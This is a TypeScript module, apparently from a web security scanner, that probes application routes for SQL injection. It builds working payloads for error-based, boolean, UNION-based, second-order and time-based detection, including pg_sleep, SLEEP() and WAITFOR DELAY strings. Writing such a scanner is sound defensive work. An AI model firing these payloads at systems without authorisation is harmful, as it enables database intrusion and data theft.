import { type Answer, type Outcome, type Probe, type Target, tryOut } from '../../core/probe.ts'
import { breaks } from './probe-breaks.ts'
import { found, isAnswered, type Place, placesOf } from './probe-places.ts'

/** How the app writes a value into its statement. */
interface Quoting {
  /** Ends the value. */
  readonly close: string
  /** Goes on with a condition, so that what the app writes behind it still fits. */
  condition(word: string, left: number, right: number): string
  /** In the place of both, for values that nothing can be added to. */
  around?(value: string, left: number, right: number): string
}

/** A column, or another word that stands without quotes: it stays what it is only where the condition holds. */
const COLUMN: Quoting = {
  close: '',
  around: (value, left, right) => `(CASE WHEN ${left}=${right} THEN ${value} ELSE NULL END)`,
  condition: (word, left, right) => ` ${word} ${left}=${right}`,
}
const BARE: Quoting = { close: '', condition: (word, left, right) => ` ${word} ${left}=${right}` }
const QUOTED: Quoting = { close: "'", condition: (word, left, right) => `' ${word} '${left}'='${right}` }
const PATTERN: Quoting = { close: "%'", condition: (word, left, right) => `%' ${word} '${left}' LIKE '${right}` }
const NESTED: Quoting = { close: "')", condition: (word, left, right) => `') ${word} ('${left}'='${right}` }
const COLUMNS = [1, 2, 3, 4]
/** Milliseconds. Long enough to be no accident of the network, and short enough to hurt nobody. */
const SLEEP = 700
const SLOW_PLACES = 6
/** How PostgreSQL, MySQL with MariaDB, and SQL Server are told to wait, once, however many rows there are. */
const SLEEPS: readonly ((seconds: number) => string)[] = [
  (seconds) => ` AND 1=(SELECT 1 FROM pg_sleep(${seconds}))-- -`,
  (seconds) => ` AND 1=(SELECT 1 FROM (SELECT SLEEP(${seconds})) AS s)-- -`,
  (seconds) => `; WAITFOR DELAY '0:0:${seconds}'-- -`,
]

const errorBased: Probe = {
  name: 'sql-injection/error-based',
  risk: 'sql-injection',
  title: 'One quote breaks a query, and two do not',
  kind: 'active',
  attack: (target) => overPlaces(target, breaks),
}

const boolean: Probe = {
  name: 'sql-injection/boolean',
  risk: 'sql-injection',
  title: 'A condition of the client decides what a query finds',
  kind: 'active',
  attack: (target) => overPlaces(target, decides),
}

const union: Probe = {
  name: 'sql-injection/union',
  risk: 'sql-injection',
  title: 'A query of the client is answered beside the one of the app',
  kind: 'active',
  attack: (target) => overPlaces(target, reads),
}

const secondOrder: Probe = {
  name: 'sql-injection/second-order',
  risk: 'sql-injection',
  title: 'What was stored runs as a query when it is read back',
  kind: 'state',
  async *attack(target) {
    for (const place of placesOf(target)) {
      const { readBack } = place.route
      if (place.route.method === 'GET' || readBack === undefined) continue
      const signedIn = place.route.signedIn === true
      const page = (): Promise<Answer> => target.send({ path: readBack, signedIn })
      const outcome = await reads(target, place, page)
      // What breaks the page for everybody must not stay there.
      await place.send(place.value)
      if (outcome === undefined) continue
      yield outcome
      if (outcome.verdict === 'proven') return
    }
  },
}

const timeBased: Probe = {
  name: 'sql-injection/time-based',
  risk: 'sql-injection',
  title: 'The client decides how long a query takes',
  kind: 'active',
  async *attack(target) {
    for (const place of placesOf(target).slice(0, SLOW_PLACES)) {
      const outcome = await waits(place)
      if (outcome === undefined) continue
      yield outcome
      if (outcome.verdict === 'proven') return
    }
  },
}

export const probes: readonly Probe[] = [errorBased, boolean, union, secondOrder, timeBased]

async function* overPlaces(
  target: Target,
  attack: (target: Target, place: Place) => Promise<Outcome | undefined>,
): AsyncGenerator<Outcome> {
  for (const place of placesOf(target)) {
    const outcome = await attack(target, place)
    if (outcome === undefined) continue
    yield outcome
    if (outcome.verdict === 'proven') return
  }
}

/** Of two conditions that differ in nothing but their truth, one leaves the answer as it was and the other does not. */
async function decides(_target: Target, place: Place): Promise<Outcome | undefined> {
  const honest = await place.send(place.value)
  if (honest.status === 0 || !isSame(honest, place.value, await place.send(place.value), place.value)) return undefined
  const pair = async (quoting: Quoting, word: string): Promise<{ worked: boolean; answer: Answer }> => {
    const left = 10 + Math.floor(Math.random() * 40)
    const write = (right: number): string =>
      quoting.around?.(place.value, left, right) ?? place.value + quoting.condition(word, left, right)
    const [truth, lie] = [write(left), write(left + 40)]
    const answer = await place.send(truth)
    const other = await place.send(lie)
    const changed = [!isSame(honest, place.value, answer, truth), !isSame(honest, place.value, other, lie)]
    // What changes by AND is the lie, and what changes by OR is the truth.
    const worked = changed[0] === (word === 'OR') && changed[1] === (word === 'AND')
    return { worked: worked && answer.status < 500 && other.status < 500, answer }
  }
  const words = isAnswered(honest) ? ['AND', 'OR'] : ['OR']
  const columns = /^[a-z_]\w*$/i.test(place.value) ? [COLUMN] : []
  const quotings = isNumber(place.value) ? [BARE, QUOTED] : [QUOTED, PATTERN, NESTED, ...columns]
  const ways = quotings.flatMap((quoting) =>
    (quoting === COLUMN ? words.slice(0, 1) : words).map((word) => ({ quoting, word })),
  )
  const { quoting, word } = await firstThat(ways, async (way) => (await pair(way.quoting, way.word)).worked)
  return tryOut(
    { attack: () => pair(quoting, word) },
    found(place, `A condition in ${place.field} decides what the query behind this route finds.`),
  )
}

/** A query that is told to wait does so, and one that is told not to does not: for routes whose answer is always the same. */
async function waits(place: Place): Promise<Outcome | undefined> {
  const honest = await place.send(place.value)
  if (honest.status === 0 || honest.ms > SLEEP / 2) return undefined
  const pair = async (
    { close }: Quoting,
    sleep: (seconds: number) => string,
  ): Promise<{ worked: boolean; answer: Answer }> => {
    const slow = await place.send(`${place.value}${close}${sleep(SLEEP / 1000)}`)
    if (slow.ms < SLEEP * 0.9) return { worked: false, answer: slow }
    const quick = await place.send(`${place.value}${close}${sleep(0)}`)
    return { worked: quick.ms < SLEEP / 2, answer: slow }
  }
  const quotings = isNumber(place.value) ? [BARE, QUOTED] : [QUOTED, NESTED]
  const ways = quotings.flatMap((quoting) => SLEEPS.map((sleep) => ({ quoting, sleep })))
  const { quoting, sleep } = await firstThat(ways, async (way) => (await pair(way.quoting, way.sleep)).worked)
  return tryOut(
    { attack: () => pair(quoting, sleep) },
    found(place, `A query in ${place.field} waits as long as it says: every answer can be asked for bit by bit.`),
  )
}

/** The product of two numbers in the answer, of which the request held only the factors. */
async function reads(_target: Target, place: Place, page?: () => Promise<Answer>): Promise<Outcome | undefined> {
  if (page === undefined && !isAnswered(await place.send(place.value))) return undefined
  const select = async ({ close }: Quoting, columns: number): Promise<{ worked: boolean; answer: Answer }> => {
    const [a, b] = [6007 + Math.floor(Math.random() * 900), 7001 + Math.floor(Math.random() * 900)]
    const row = Array.from({ length: columns }, () => `${a}*${b}`).join(',')
    // Nothing has this value, so that the rows of the client come first.
    const sent = await place.send(`${close === '' ? '-1' : `${place.value}-none`}${close} UNION SELECT ${row}-- -`)
    const answer = page === undefined ? sent : await page()
    return { worked: answer.text.includes(String(a * b)), answer }
  }
  const quotings = isNumber(place.value) ? [BARE, QUOTED] : [QUOTED, NESTED]
  const ways = quotings.flatMap((quoting) => COLUMNS.map((columns) => ({ quoting, columns })))
  const { quoting, columns } = await firstThat(ways, async (way) => (await select(way.quoting, way.columns)).worked)
  return tryOut(
    { attack: () => select(quoting, columns) },
    found(
      place,
      page === undefined
        ? `A query in ${place.field} is run, and its rows are in the answer: every table of the database can be read.`
        : `A query that was stored through ${place.field} is run when it is read back, and its rows are on the page.`,
    ),
  )
}

/** The first way that works, or the first of all. */
async function firstThat<T>(ways: readonly T[], works: (way: T) => Promise<boolean>): Promise<T> {
  for (const way of ways) if (await works(way)) return way
  return ways[0] as T
}

function isNumber(value: string): boolean {
  return /^-?\d+$/.test(value)
}

/** Whether two answers say the same, apart from the value that they may repeat. */
function isSame(a: Answer, sentA: string, b: Answer, sentB: string): boolean {
  // The honest value may be in the content as well, so it has to go from both; the longer one first, as it may hold the other.
  const values = [sentA, sentB].sort((one, other) => other.length - one.length)
  const rest = (text: string): string => values.reduce(without, text)
  return a.status === b.status && rest(a.text) === rest(b.text)
}

function without(text: string, value: string): string {
  const html = value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
  let rest = text
  for (const form of [
    value,
    html.replaceAll("'", '&#39;'),
    html.replaceAll("'", '&#x27;'),
    html,
    JSON.stringify(value).slice(1, -1),
    encodeURIComponent(value),
  ]) {
    if (form !== '') rest = rest.replaceAll(form, '')
  }
  return rest
}
